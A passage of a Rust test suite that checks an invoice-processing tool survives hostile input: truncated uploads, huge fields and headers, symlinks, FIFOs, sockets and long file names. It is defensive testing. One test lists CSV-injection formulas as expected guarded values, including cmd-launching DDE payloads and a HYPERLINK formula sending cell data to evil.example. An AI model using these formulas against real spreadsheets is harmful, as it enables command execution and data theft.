//! Hostile input (issue 7, item 3): the corpus `tests/data/hostile/<sender>/<name>` with the
//! receipt each file must get (`tests/data/hostile/expected.csv`), and the cases git cannot
//! carry or that would make the repository big, made here at run time: megabyte lines, fields,
//! headers and names, links, FIFOs, sockets and folders in an inbox. Bad input must end in a
//! short, clear receipt; it never stops a run, never loses a file, is never followed out of
//! the inbox, and never reaches a spreadsheet as a formula.

use std::collections::BTreeMap;
use std::io::Read;
use std::path::{Path, PathBuf};
use std::process::{Output, Stdio};
use std::time::{Duration, Instant};

use crate::support::{Workspace, receipt_rows, repo};

const AS_OF: &str = "2026-10-01";

/// A spreadsheet cell holds at most this many characters (Excel): a receipt cell longer than
/// that cannot be shown to the person who must act on it.
const MAX_CELL_CHARS: usize = 32_767;

/// A receipt for a file with a handful of problems is a few hundred bytes; whatever the input,
/// it must stay far below this.
const SHORT_RECEIPT_BYTES: usize = 64 * 1024;

fn corpus() -> PathBuf {
    repo().join("tests/data/hostile")
}

/// Replaces `from` by `to` in a configuration text, insisting that `from` is there.
fn edit(text: String, from: &str, to: &str) -> String {
    assert!(text.contains(from), "the shipped config has no `{from}`");
    text.replacen(from, to, 1)
}

/// One row of `expected.csv`.
#[derive(Debug)]
struct Expected {
    sender: String,
    name: String,
    format: String,
    kind: String,
    status: String,
    records: String,
    accepted: String,
    destination: String,
    problems: Vec<String>,
    hint: String,
}

fn manifest() -> Vec<Expected> {
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_path(corpus().join("expected.csv"))
        .unwrap();
    let headers = reader.headers().unwrap().clone();
    assert_eq!(
        headers.iter().collect::<Vec<_>>(),
        [
            "file",
            "attack",
            "format",
            "kind",
            "status",
            "records",
            "accepted",
            "destination",
            "problems",
            "hint"
        ]
    );
    reader
        .records()
        .map(|r| {
            let r = r.unwrap();
            let (sender, name) = r[0].split_once('/').expect("file is <sender>/<name>");
            assert!(!r[1].is_empty(), "{}: say what the file attacks", &r[0]);
            assert!(
                ["archive", "rejected"].contains(&&r[7]),
                "{}: destination",
                &r[0]
            );
            Expected {
                sender: sender.to_owned(),
                name: name.to_owned(),
                format: r[2].to_owned(),
                kind: r[3].to_owned(),
                status: r[4].to_owned(),
                records: r[5].to_owned(),
                accepted: r[6].to_owned(),
                destination: r[7].to_owned(),
                problems: r[8]
                    .split(" | ")
                    .filter(|p| !p.is_empty())
                    .map(str::to_owned)
                    .collect(),
                hint: r[9].to_owned(),
            }
        })
        .collect()
}

/// `(sender, name)` of every corpus file.
fn corpus_files() -> Vec<(String, String)> {
    let mut out = Vec::new();
    for sender in std::fs::read_dir(corpus()).unwrap().flatten() {
        if !sender.file_type().unwrap().is_dir() {
            continue;
        }
        for file in std::fs::read_dir(sender.path()).unwrap().flatten() {
            out.push((
                sender.file_name().into_string().unwrap(),
                file.file_name().into_string().unwrap(),
            ));
        }
    }
    out.sort();
    out
}

fn corpus_bytes(sender: &str, name: &str) -> Vec<u8> {
    std::fs::read(corpus().join(sender).join(name)).unwrap()
}

/// Outbound text of a sender's folder (or `_agency`), in the encoding of the shipped
/// configuration: `fjellstua` writes windows-1252, everything else is UTF-8.
fn decode(folder: &str, bytes: &[u8]) -> String {
    if folder == "fjellstua" {
        encoding_rs::WINDOWS_1252.decode(bytes).0.into_owned()
    } else {
        String::from_utf8_lossy(bytes).into_owned()
    }
}

/// Every cell of a `;` CSV, header included.
fn cells(text: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .delimiter(b';')
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

/// A receipt's `error` row as `code@position#field` (`#field` only when it names one).
fn problem(row: &BTreeMap<String, String>) -> String {
    let mut out = format!("{}@{}", row["code"], row["position"]);
    if !row["field"].is_empty() {
        out.push('#');
        out.push_str(&row["field"]);
    }
    out
}

/// A manifest problem matches a receipt row: a bare code matches it at any position.
fn problem_matches(expected: &str, actual: &str) -> bool {
    if expected.contains('@') {
        expected == actual
    } else {
        actual.split('@').next() == Some(expected)
    }
}

fn first_chars(text: &str, n: usize) -> String {
    let mut out: String = text.chars().take(n).collect();
    if text.chars().count() > n {
        out.push('…');
    }
    out
}

/// Characters a person reading a message cannot see, or that break its line.
fn is_invisible(c: char) -> bool {
    c.is_control()
        || matches!(
            c,
            '\u{00AD}'
                | '\u{200B}'..='\u{200F}'
                | '\u{202A}'..='\u{202E}'
                | '\u{2060}'..='\u{2064}'
                | '\u{2066}'..='\u{2069}'
                | '\u{FEFF}'
        )
}

/// Files of the outbox (recursively) whose name starts with `prefix` and ends with `.csv`.
fn outbox_csvs(ws: &Workspace, prefix: &str) -> Vec<(String, String)> {
    ws.files_under("outbox")
        .into_iter()
        .filter(|(path, _)| {
            let name = path.rsplit('/').next().unwrap_or(path);
            name.starts_with(prefix) && name.ends_with(".csv")
        })
        .map(|(path, bytes)| {
            let folder = path.split('/').next().unwrap_or("").to_owned();
            (path, decode(&folder, &bytes))
        })
        .collect()
}

/// What is wrong with the receipts in a workspace: cells no spreadsheet can show, and
/// messages with characters nobody can see (an invisible byte order mark inside a quoted
/// value makes "does not act for creditor `923609016`" unintelligible).
fn receipt_defects(ws: &Workspace) -> Vec<String> {
    let mut out = Vec::new();
    for (path, text) in outbox_csvs(ws, "receipt-") {
        for row in receipt_rows(&text) {
            for (column, value) in &row {
                let chars = value.chars().count();
                if chars > MAX_CELL_CHARS {
                    out.push(format!(
                        "{path}: `{column}` has {chars} characters, more than a spreadsheet cell holds: {}",
                        first_chars(value, 80)
                    ));
                }
            }
            if let Some(c) = row["message"].chars().find(|c| is_invisible(*c)) {
                out.push(format!(
                    "{path}: the message holds the invisible character U+{:04X}: {}",
                    c as u32,
                    first_chars(&row["message"], 200)
                ));
            }
        }
    }
    out
}

/// A cell a spreadsheet would read as a number, not run as a formula: `-1250,00`.
fn is_number(cell: &str) -> bool {
    let digits = cell.strip_prefix('-').unwrap_or(cell);
    digits.chars().any(|c| c.is_ascii_digit())
        && digits
            .chars()
            .all(|c| c.is_ascii_digit() || matches!(c, ',' | '.' | ' '))
}

/// Cells of every outbound CSV (receipts, status, letters, reconciliation) that a spreadsheet
/// would run as a formula.
fn unguarded_formulas(ws: &Workspace) -> Vec<String> {
    let mut out = Vec::new();
    for (path, text) in outbox_csvs(ws, "") {
        for row in cells(&text) {
            for cell in row {
                if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && !is_number(&cell) {
                    out.push(format!("{path}: {}", first_chars(&cell, 80)));
                }
            }
        }
    }
    out
}

/// The CSV receipts of a sender, by the `file_name` of their `file` row (without the formula
/// guard), whatever the receipt files are called.
fn receipts_by_file_name(ws: &Workspace, sender: &str) -> BTreeMap<String, Vec<String>> {
    let mut out: BTreeMap<String, Vec<String>> = BTreeMap::new();
    for (path, text) in outbox_csvs(ws, "receipt-") {
        if !path.starts_with(&format!("{sender}/")) {
            continue;
        }
        let rows = receipt_rows(&text);
        let file = &rows[0];
        let name = file["file_name"]
            .strip_prefix('\'')
            .unwrap_or(&file["file_name"]);
        out.entry(name.to_owned())
            .or_default()
            .push(file["status"].clone());
    }
    out
}

/// Runs `kravflyt ARGS`, failing the test if it has not finished within `limit` (a FIFO that
/// is opened blocks the run for ever).
fn run_within(ws: &Workspace, args: &[&str], limit: Duration) -> Output {
    let mut child = ws
        .command()
        .args(args)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let read = |mut pipe: Box<dyn Read + Send>| {
        std::thread::spawn(move || {
            let mut bytes = Vec::new();
            let _ = pipe.read_to_end(&mut bytes);
            bytes
        })
    };
    let stdout = read(Box::new(child.stdout.take().unwrap()));
    let stderr = read(Box::new(child.stderr.take().unwrap()));
    let start = Instant::now();
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        if start.elapsed() > limit {
            let _ = child.kill();
            let _ = child.wait();
            panic!(
                "kravflyt {args:?} was still running after {limit:?} (blocked on an inbox entry?):\n{}",
                String::from_utf8_lossy(&stderr.join().unwrap())
            );
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    Output {
        status,
        stdout: stdout.join().unwrap(),
        stderr: stderr.join().unwrap(),
    }
}

fn invoice_row(no: &str, name: &str) -> String {
    format!(
        "923609016;{no};C-{no};person;{name};Storgata 1;9008;Tromsø;2026-09-01;2026-09-15;NOK;1 000,00"
    )
}

const HEADER: &str = "creditor_id;invoice_no;customer_no;debtor_type;debtor_name;address;postcode;city;issue_date;due_date;currency;amount";

fn invoices(rows: &[String]) -> String {
    let mut text = format!("{HEADER}\n");
    for row in rows {
        text.push_str(row);
        text.push('\n');
    }
    text
}

#[test]
fn every_corpus_file_has_an_expectation_and_every_expectation_a_file() {
    let files = corpus_files();
    let listed: Vec<(String, String)> =
        manifest().into_iter().map(|e| (e.sender, e.name)).collect();
    let mut sorted = listed.clone();
    sorted.sort();
    sorted.dedup();
    assert_eq!(sorted.len(), listed.len(), "a file is listed twice");
    let unlisted: Vec<_> = files.iter().filter(|f| !sorted.contains(f)).collect();
    let missing: Vec<_> = sorted.iter().filter(|f| !files.contains(f)).collect();
    assert!(
        unlisted.is_empty() && missing.is_empty(),
        "corpus files without a row in expected.csv: {unlisted:?}; rows without a file: {missing:?}"
    );
    assert!(
        files.len() >= 40,
        "issue 7 asks for at least 40 hostile files"
    );
}

/// The whole corpus in one pass: every file gets the receipt the manifest lists and ends where
/// it says, unchanged; nothing is lost and nothing stops the run.
#[test]
fn the_hostile_corpus_gets_the_receipts_the_manifest_lists() {
    let ws = Workspace::with_config(|text| {
        let text = edit(text, "stale_after = \"1h\"", "stale_after = \"0s\"");
        edit(text, "max_file_bytes = 536870912", "max_file_bytes = 32768")
    });
    let expected = manifest();
    for e in &expected {
        ws.drop_file(&e.sender, &e.name, corpus_bytes(&e.sender, &e.name));
    }
    let out = ws.process(AS_OF);
    assert!(
        out.contains(&format!("{} file(s) processed", expected.len())),
        "{out}"
    );
    assert!(ws.names_under("inbox").is_empty(), "left in the inbox");
    assert!(ws.names_under("work").is_empty(), "left in work/");
    let archive = ws.files_under("archive");
    let rejected = ws.files_under("rejected");
    assert_eq!(
        archive.len() + rejected.len(),
        expected.len(),
        "every file ends in exactly one of archive/ and rejected/"
    );

    let mut wrong = Vec::new();
    for e in &expected {
        let file = format!("{}/{}", e.sender, e.name);
        let bytes = corpus_bytes(&e.sender, &e.name);
        let archived = archive.get(&format!("{}/YYYY/MM/DD/{}", e.sender, e.name));
        let refused = rejected.get(&format!("{}/{}", e.sender, e.name));
        let (ended, content) = match (archived, refused) {
            (Some(c), None) => ("archive", c),
            (None, Some(c)) => ("rejected", c),
            _ => {
                wrong.push(format!(
                    "{file}: not in exactly one of archive/ and rejected/"
                ));
                continue;
            }
        };
        if ended != e.destination {
            wrong.push(format!(
                "{file}: ended in {ended}/, expected {}/",
                e.destination
            ));
        }
        if *content != bytes {
            wrong.push(format!("{file}: its bytes changed on the way to {ended}/"));
        }

        let receipt_path = ws
            .var()
            .join("outbox")
            .join(&e.sender)
            .join(format!("receipt-{}.csv", e.name));
        let Ok(receipt) = std::fs::read(&receipt_path) else {
            wrong.push(format!("{file}: no receipt-{}.csv", e.name));
            continue;
        };
        let rows = receipt_rows(&decode(&e.sender, &receipt));
        let head = &rows[0];
        for (column, want) in [
            ("format", &e.format),
            ("kind", &e.kind),
            ("status", &e.status),
            ("records", &e.records),
            ("accepted", &e.accepted),
        ] {
            if want != "*" && head[column] != *want {
                wrong.push(format!(
                    "{file}: {column} is `{}`, expected `{want}`",
                    head[column]
                ));
            }
        }
        let problems: Vec<String> = rows[1..].iter().map(problem).collect();
        let same = problems.len() == e.problems.len()
            && e.problems
                .iter()
                .zip(&problems)
                .all(|(want, got)| problem_matches(want, got));
        if !same {
            let messages: Vec<String> = rows[1..]
                .iter()
                .map(|r| first_chars(&r["message"], 160))
                .collect();
            wrong.push(format!(
                "{file}: problems {problems:?}, expected {:?} (messages: {messages:?})",
                e.problems
            ));
        }
        if !e.hint.is_empty()
            && !rows[1..]
                .iter()
                .any(|r| r["message"].to_lowercase().contains(&e.hint.to_lowercase()))
        {
            wrong.push(format!(
                "{file}: no message mentions `{}`: {:?}",
                e.hint,
                rows[1..]
                    .iter()
                    .map(|r| first_chars(&r["message"], 160))
                    .collect::<Vec<_>>()
            ));
        }
        // Senders that deliver an XML format get the receipt as XML too (receipts.md).
        if ["kvarnby", "revontuli", "bank"].contains(&e.sender.as_str()) {
            let xml = receipt_path.with_extension("xml");
            match std::fs::read_to_string(&xml) {
                Ok(text) if text.contains(&format!("<status>{}</status>", head["status"])) => {}
                Ok(_) => wrong.push(format!("{file}: the XML receipt has another status")),
                Err(_) => wrong.push(format!("{file}: no XML receipt")),
            }
        }
    }
    wrong.extend(receipt_defects(&ws));
    wrong.extend(unguarded_formulas(&ws));
    assert!(
        wrong.is_empty(),
        "{} problem(s) with the hostile corpus:\n{}",
        wrong.len(),
        wrong.join("\n")
    );
}

/// Files cut off before their end marker are not taken while the upload may still be going
/// on; once `stale_after` has passed they are rejected as `incomplete_file`.
#[test]
fn truncated_uploads_wait_for_their_end_marker_until_stale_after() {
    let ws = Workspace::new();
    let cut = [
        ("bank", "ocr-no-end-records.txt"),
        ("bank", "bgmax-no-end-record.txt"),
        ("kvarnby", "peppol-cut-mid-element.xml"),
        ("revontuli", "kravflyt-cut-mid-element.xml"),
    ];
    for (sender, name) in cut {
        ws.drop_file(sender, name, corpus_bytes(sender, name));
    }
    let out = ws.process(AS_OF);
    assert!(
        out.contains("0 file(s) processed") && out.contains("4 waiting"),
        "{out}"
    );
    assert_eq!(ws.names_under("inbox").len(), 4);
    assert!(
        ws.names_under("outbox")
            .iter()
            .all(|n| !n.contains("/receipt-"))
    );

    // An hour later (the sightings are kept in the database, so shortening stale_after is the
    // same as waiting for it).
    let config = std::fs::read_to_string(&ws.config).unwrap();
    std::fs::write(
        &ws.config,
        edit(config, "stale_after = \"1h\"", "stale_after = \"0s\""),
    )
    .unwrap();
    let out = ws.process(AS_OF);
    assert!(out.contains("4 file(s) processed"), "{out}");
    for (sender, name) in cut {
        let rows = receipt_rows(&ws.outbox_file(sender, &format!("receipt-{name}.csv")));
        assert_eq!(rows[0]["status"], "rejected", "{name}");
        assert_eq!(problem(&rows[1]), "incomplete_file@file", "{name}");
        assert_eq!(rows.len(), 2, "{name}");
    }
    let mut rejected = ws.names_under("rejected");
    rejected.sort();
    let mut want: Vec<String> = cut.iter().map(|(s, n)| format!("{s}/{n}")).collect();
    want.sort();
    assert_eq!(rejected, want);
}

/// Text fields that start like a formula are accepted (they may be real names) and reach the
/// status, letters and reconciliation files with a `'` in front.
#[test]
fn csv_injection_payloads_are_neutralised_in_status_letters_and_reconciliation_files() {
    let ws = Workspace::new();
    let files = [
        ("nordlys", "formula-1-invoices.csv"),
        ("nordlys", "formula-2-instructions.csv"),
        ("nordlys", "formula-3-direct-payments.csv"),
        ("fjellstua", "formula-payloads.csv"),
        ("kvarnby", "peppol-formula-buyer.xml"),
        ("bank", "formula-payments.csv"),
    ];
    for (sender, name) in files {
        ws.drop_file(sender, name, corpus_bytes(sender, name));
    }
    ws.process(AS_OF);
    for (sender, name) in files {
        let rows = receipt_rows(&decode(
            sender,
            &std::fs::read(
                ws.var()
                    .join("outbox")
                    .join(sender)
                    .join(format!("receipt-{name}.csv")),
            )
            .unwrap(),
        ));
        assert_eq!(rows[0]["status"], "accepted", "{sender}/{name}: {rows:?}");
    }
    // The next day's run writes the reconciliation of the day before.
    ws.process("2026-10-02");

    let found = |prefix: &str| -> Vec<String> {
        outbox_csvs(&ws, prefix)
            .iter()
            .flat_map(|(_, text)| cells(text).into_iter().flatten())
            .collect()
    };
    let status = found("status-");
    let letters = found("letters-");
    let reconciliation = found("reconciliation-");
    assert!(!status.is_empty() && !letters.is_empty() && !reconciliation.is_empty());
    let mut missing = Vec::new();
    for (kind, cells, wanted) in [
        (
            "status (invoice_no)",
            &status,
            &[
                "'=HYPERLINK(\"http://evil.example/\"&A1)",
                "'+4790000000",
                "'-1042",
            ][..],
        ),
        (
            "letters (debtor_name, address, city)",
            &letters,
            &[
                "'=cmd|' /C calc'!A0",
                "'+SUM(1+1)*cmd|' /C calc'!A0",
                "'-2+3+cmd|' /C calc'!A0",
                "'@SUM(1+1)",
                "'=1+1",
                // A tab or CR in front is trimmed away on reading; what is left is guarded.
                "'=1+2",
                "'=3+4",
                "'=HYPERLINK(\"http://evil.example\")",
            ][..],
        ),
        (
            "reconciliation (payment_id, invoice_no, reference)",
            &reconciliation,
            &["'=1+1", "'+4790000000", "'-HYPERLINK(1)"][..],
        ),
    ] {
        for want in wanted {
            if !cells.iter().any(|c| c == want) {
                missing.push(format!("{kind}: no cell `{want}`"));
            }
        }
    }
    assert!(missing.is_empty(), "{}", missing.join("\n"));
    let unguarded = unguarded_formulas(&ws);
    assert!(
        unguarded.is_empty(),
        "cells a spreadsheet would run:\n{}",
        unguarded.join("\n")
    );
}

/// Inbox entries that are not regular files are never opened, followed or moved, never block
/// the run, and are reported in the log (docs/configuration.md, `ignore`: "Links, folders and
/// devices are always skipped (with a warning, once)"). A hard link is a second name of a
/// file elsewhere: taking it would read (and archive, and echo in receipts) a file that was
/// never delivered, so it is treated like a symbolic link.
#[test]
fn links_fifos_sockets_folders_and_hard_links_in_an_inbox_are_never_read_and_are_reported() {
    use std::os::unix::ffi::OsStrExt;

    let ws = Workspace::new();
    ws.drop_file(
        "nordlys",
        "real.csv",
        invoices(&[invoice_row("REAL-1", "Kari Nordmann")]),
    );
    ws.process(AS_OF);
    let archived_real = find_file(&ws.var().join("archive/nordlys"), "real.csv");

    let inbox = ws.var().join("inbox/nordlys");
    let outside = ws.dir.path().join("outside.csv");
    let outside_content = invoices(&[invoice_row("OUT-1", "Utenfor")]);
    std::fs::write(&outside, &outside_content).unwrap();
    let hard_target = ws.dir.path().join("hard-target.csv");
    let hard_content = invoices(&[invoice_row("HARD-1", "Hardlenke")]);
    std::fs::write(&hard_target, &hard_content).unwrap();
    let database = ws.var().join("kravflyt.db");
    let symlink = |target: &Path, name: &str| {
        std::os::unix::fs::symlink(target, inbox.join(name)).unwrap();
    };
    symlink(&outside, "link-outside-workspace.csv");
    symlink(&archived_real, "link-archived-file.csv");
    symlink(&database, "link-database.csv");
    symlink(Path::new("nowhere.csv"), "link-dangling.csv");
    symlink(&ws.var().join("inbox/bank"), "link-folder.csv");
    std::fs::hard_link(&hard_target, inbox.join("hard-link.csv")).unwrap();
    let mkfifo = std::process::Command::new("mkfifo")
        .arg(inbox.join("fifo.csv"))
        .status()
        .unwrap();
    assert!(mkfifo.success(), "mkfifo");
    let _socket = std::os::unix::net::UnixListener::bind(inbox.join("socket.csv")).unwrap();
    std::fs::create_dir(inbox.join("folder.csv")).unwrap();
    std::fs::write(inbox.join("folder.csv/inner.csv"), &outside_content).unwrap();
    let not_utf8 = std::ffi::OsStr::from_bytes(b"latin1-\xf8re.csv");
    std::fs::write(inbox.join(not_utf8), &outside_content).unwrap();
    let entries_before = inbox_entries(&inbox);
    let archived_before = std::fs::read(&archived_real).unwrap();
    let cases_before = ws.case_list();

    let out = run_within(&ws, &["process", "--as-of", AS_OF], Duration::from_secs(20));
    let stderr = String::from_utf8_lossy(&out.stderr);
    let stdout = String::from_utf8_lossy(&out.stdout);
    let mut wrong = Vec::new();
    let mut check = |ok: bool, what: String| {
        if !ok {
            wrong.push(what);
        }
    };
    check(
        out.status.success(),
        format!("the run failed ({})", out.status),
    );
    check(
        stdout.contains("0 file(s) processed"),
        format!("entries were processed: {stdout}"),
    );
    let entries_after = inbox_entries(&inbox);
    check(
        entries_after == entries_before,
        format!("the inbox changed: {entries_before:?} became {entries_after:?}"),
    );
    check(
        std::fs::read_to_string(&outside).ok().as_deref() == Some(&outside_content),
        "the link target outside the workspace changed".to_owned(),
    );
    check(
        std::fs::read_to_string(&hard_target).ok().as_deref() == Some(&hard_content),
        "the hard link's other name changed".to_owned(),
    );
    check(
        std::fs::read(&archived_real).ok() == Some(archived_before),
        "the archived file a link points to changed".to_owned(),
    );
    check(database.is_file(), "the database moved".to_owned());
    let cases_after = ws.case_list();
    check(
        cases_after == cases_before,
        format!(
            "something was applied: {} case(s) before, {} after",
            cases_before.as_array().map_or(0, Vec::len),
            cases_after.as_array().map_or(0, Vec::len)
        ),
    );
    let receipts: Vec<String> = ws
        .names_under("outbox")
        .into_iter()
        .filter(|n| n.contains("/receipt-"))
        .collect();
    check(
        receipts == ["nordlys/receipt-real.csv.csv"],
        format!("receipts for entries that are never read: {receipts:?}"),
    );
    let archived = ws.names_under("archive");
    check(
        archived == ["nordlys/YYYY/MM/DD/real.csv"],
        format!("archived: {archived:?}"),
    );
    check(
        ws.names_under("rejected").is_empty(),
        "something was rejected".to_owned(),
    );
    for name in [
        "link-outside-workspace.csv",
        "link-archived-file.csv",
        "link-database.csv",
        "link-dangling.csv",
        "link-folder.csv",
        "hard-link.csv",
        "fifo.csv",
        "socket.csv",
        "folder.csv",
    ] {
        check(
            stderr
                .lines()
                .any(|l| l.contains("WARN") && l.contains(&format!("file={name}"))),
            format!("no warning names {name}"),
        );
    }
    check(
        stderr
            .lines()
            .any(|l| l.contains("WARN") && l.contains("not valid UTF-8")),
        "no warning for the name that is not UTF-8".to_owned(),
    );
    assert!(
        wrong.is_empty(),
        "{}\nstdout:\n{stdout}\nstderr:\n{stderr}",
        wrong.join("\n")
    );
}

/// The one file called `name` under `root`, at any depth.
fn find_file(root: &Path, name: &str) -> PathBuf {
    let mut found = Vec::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(dir).unwrap().flatten() {
            if entry.file_type().unwrap().is_dir() {
                stack.push(entry.path());
            } else if entry.file_name() == name {
                found.push(entry.path());
            }
        }
    }
    assert_eq!(found.len(), 1, "{name} under {}: {found:?}", root.display());
    found.remove(0)
}

/// Name, kind and (for links) target of every inbox entry.
fn inbox_entries(inbox: &Path) -> Vec<String> {
    let mut out: Vec<String> = std::fs::read_dir(inbox)
        .unwrap()
        .flatten()
        .map(|e| {
            let meta = std::fs::symlink_metadata(e.path()).unwrap();
            let kind = if meta.file_type().is_symlink() {
                format!(
                    "link to {}",
                    std::fs::read_link(e.path()).unwrap().display()
                )
            } else if meta.is_dir() {
                "folder".to_owned()
            } else if meta.is_file() {
                format!("file of {} bytes", meta.len())
            } else {
                "special".to_owned()
            };
            format!("{}: {kind}", e.file_name().to_string_lossy())
        })
        .collect();
    out.sort();
    out
}

/// A name may be up to 255 bytes; the receipt's name adds `receipt-` and `.csv`, and the
/// temporary name more. Such a file is archived, gets a receipt (under a name the file system
/// takes), and holds up neither the other files' receipts nor the run.
#[test]
fn very_long_file_names_are_archived_and_get_a_receipt_without_blocking_the_sender() {
    let ws = Workspace::new();
    let longest = format!("{}.csv", "L".repeat(251));
    let nordic = format!("{}.csv", "æ".repeat(100));
    assert_eq!((longest.len(), nordic.len()), (255, 204));
    let files = [
        (
            longest.clone(),
            invoices(&[invoice_row("LONG-1", "Kari Nordmann")]),
        ),
        (
            nordic.clone(),
            invoices(&[invoice_row("LONG-2", "Åse Kjærstad")]),
        ),
        (
            "plain.csv".to_owned(),
            invoices(&[invoice_row("LONG-3", "Ola Nordmann")]),
        ),
    ];
    for (name, content) in &files {
        ws.drop_file("nordlys", name, content);
    }
    let mut wrong = Vec::new();
    let out = ws.run(&["process", "--as-of", AS_OF]);
    if !out.status.success() {
        wrong.push(format!(
            "the run failed ({}), but bad input is not an operational failure: {}",
            out.status,
            first_chars(&String::from_utf8_lossy(&out.stderr), 400)
        ));
    }
    let archived: Vec<Vec<u8>> = ws.files_under("archive").into_values().collect();
    for (name, content) in &files {
        if !archived.contains(&content.as_bytes().to_vec()) {
            wrong.push(format!("the {}-byte name is not archived", name.len()));
        }
    }
    if !ws
        .var()
        .join("outbox/nordlys/receipt-plain.csv.csv")
        .exists()
    {
        wrong.push("the receipt of plain.csv is held up".to_owned());
    }
    if !ws
        .names_under("outbox")
        .iter()
        .any(|n| n.starts_with("nordlys/status-"))
    {
        wrong.push("nordlys's status file is held up".to_owned());
    }
    let receipts = receipts_by_file_name(&ws, "nordlys");
    for (name, _) in &files {
        if receipts.get(name).map(Vec::as_slice) != Some(&["accepted".to_owned()][..]) {
            wrong.push(format!(
                "no receipt says the {}-byte name was accepted",
                name.len()
            ));
        }
    }

    // The same 255-byte name again: the archive and the receipt need a numbered name. And
    // another sender's file on the same run.
    ws.drop_file(
        "nordlys",
        &longest,
        invoices(&[invoice_row("LONG-4", "Kari Nordmann")]),
    );
    ws.drop_file(
        "bank",
        "other-sender.csv",
        corpus_bytes("bank", "formula-payments.csv"),
    );
    let out = ws.run(&["process", "--as-of", AS_OF]);
    if !out.status.success() {
        wrong.push(format!(
            "the second run failed ({}): {}",
            out.status,
            first_chars(&String::from_utf8_lossy(&out.stderr), 400)
        ));
    }
    let stuck: Vec<String> = [ws.names_under("inbox"), ws.names_under("work")]
        .concat()
        .iter()
        .map(|n| first_chars(n, 40))
        .collect();
    if !stuck.is_empty() {
        wrong.push(format!("the second delivery is stuck: {stuck:?}"));
    }
    let archived = ws.files_under("archive").len();
    if archived != 5 {
        wrong.push(format!("{archived} files archived, expected 5"));
    }
    if !ws
        .var()
        .join("outbox/bank/receipt-other-sender.csv.csv")
        .exists()
    {
        wrong.push("another sender's file is held up too".to_owned());
    }
    let receipts = receipts_by_file_name(&ws, "nordlys")
        .get(&longest)
        .map_or(0, Vec::len);
    if receipts != 2 {
        wrong.push(format!(
            "{receipts} receipt(s) for the two deliveries of the 255-byte name"
        ));
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// One receipt of a generated file: its rows; a receipt that is not short and readable is
/// reported in `wrong`.
fn short_receipt(
    ws: &Workspace,
    sender: &str,
    name: &str,
    wrong: &mut Vec<String>,
) -> Vec<BTreeMap<String, String>> {
    let path = ws
        .var()
        .join("outbox")
        .join(sender)
        .join(format!("receipt-{name}.csv"));
    let bytes = std::fs::read(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    let text = decode(sender, &bytes);
    if bytes.len() > SHORT_RECEIPT_BYTES {
        wrong.push(format!(
            "{name}: the receipt has {} bytes; it echoes the input instead of describing it: {}",
            bytes.len(),
            first_chars(&text, 300)
        ));
    }
    let rows = receipt_rows(&text);
    for row in &rows {
        for (column, value) in row {
            let chars = value.chars().count();
            if chars > MAX_CELL_CHARS {
                wrong.push(format!(
                    "{name}: `{column}` has {chars} characters, more than a spreadsheet cell holds"
                ));
            }
        }
    }
    if let Ok(xml) = std::fs::metadata(path.with_extension("xml"))
        && xml.len() as usize > SHORT_RECEIPT_BYTES
    {
        wrong.push(format!("{name}: the XML receipt has {} bytes", xml.len()));
    }
    rows
}

fn problems_of(rows: &[BTreeMap<String, String>]) -> Vec<String> {
    rows[1..].iter().map(problem).collect()
}

#[test]
fn megabyte_lines_fields_and_headers_get_short_receipts() {
    let ws = Workspace::new();
    let mib = 1 << 20;
    let files: Vec<(&str, String)> = vec![
        (
            "long-field.csv",
            invoices(&[
                invoice_row("G-1", &"X".repeat(4 * mib)),
                invoice_row("G-2", "Kari Nordmann"),
            ]),
        ),
        (
            "long-key.csv",
            invoices(&[
                format!(
                    "923609016;{};C-K;person;Kari Nordmann;Storgata 1;9008;Tromsø;2026-09-01;2026-09-15;NOK;1 000,00",
                    "K".repeat(mib)
                ),
                invoice_row("G-3", "Kari Nordmann"),
            ]),
        ),
        (
            "long-header.csv",
            format!(
                "{HEADER};{}\n{}\n",
                (0..400_000)
                    .map(|i| format!("extra{i}"))
                    .collect::<Vec<_>>()
                    .join(";"),
                invoice_row("G-4", "Kari Nordmann")
            ),
        ),
        (
            "many-delimiters.csv",
            invoices(&[
                invoice_row("G-5", "Kari Nordmann") + &";".repeat(2 * mib),
                invoice_row("G-6", "Kari Nordmann"),
            ]),
        ),
        ("one-line-no-line-end.csv", "a".repeat(8 * mib)),
        (
            "multiline-quoted-field.csv",
            invoices(&[
                invoice_row("G-7", &format!("\"{}\"", "line\n".repeat(200_000))),
                invoice_row("G-8", "Kari Nordmann"),
            ]),
        ),
    ];
    for (name, content) in &files {
        ws.drop_file("nordlys", name, content);
    }
    let started = Instant::now();
    ws.process(AS_OF);
    assert!(
        started.elapsed() < Duration::from_secs(20),
        "{:?}",
        started.elapsed()
    );

    let mut wrong = Vec::new();
    let mut check = |name: &str, status: &str, problems: &[&str]| {
        let rows = short_receipt(&ws, "nordlys", name, &mut wrong);
        let got = problems_of(&rows);
        if rows[0]["status"] != status || got != problems {
            wrong.push(format!(
                "{name}: {} {got:?}, expected {status} {problems:?}",
                rows[0]["status"]
            ));
        }
    };
    check(
        "long-field.csv",
        "partly_accepted",
        &["bad_value@line 2#debtor_name"],
    );
    check(
        "long-key.csv",
        "partly_accepted",
        &["bad_value@line 2#invoice_no"],
    );
    check("long-header.csv", "rejected", &["unknown_column@line 1"]);
    check(
        "many-delimiters.csv",
        "partly_accepted",
        &["bad_row@line 2"],
    );
    check(
        "one-line-no-line-end.csv",
        "rejected",
        &["unknown_format@line 1"],
    );
    check(
        "multiline-quoted-field.csv",
        "partly_accepted",
        &["bad_value@line 2#debtor_name"],
    );
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn huge_wide_and_deep_xml_gets_short_clear_receipts() {
    let ws = Workspace::new();
    let mib = 1 << 20;
    let invoice = |no: &str, name: &str, extra: &str| {
        format!(
            "<invoice><creditor_id>2345678-0</creditor_id><invoice_no>{no}</invoice_no>\
             <customer_no>R-1</customer_no><debtor_type>person</debtor_type>\
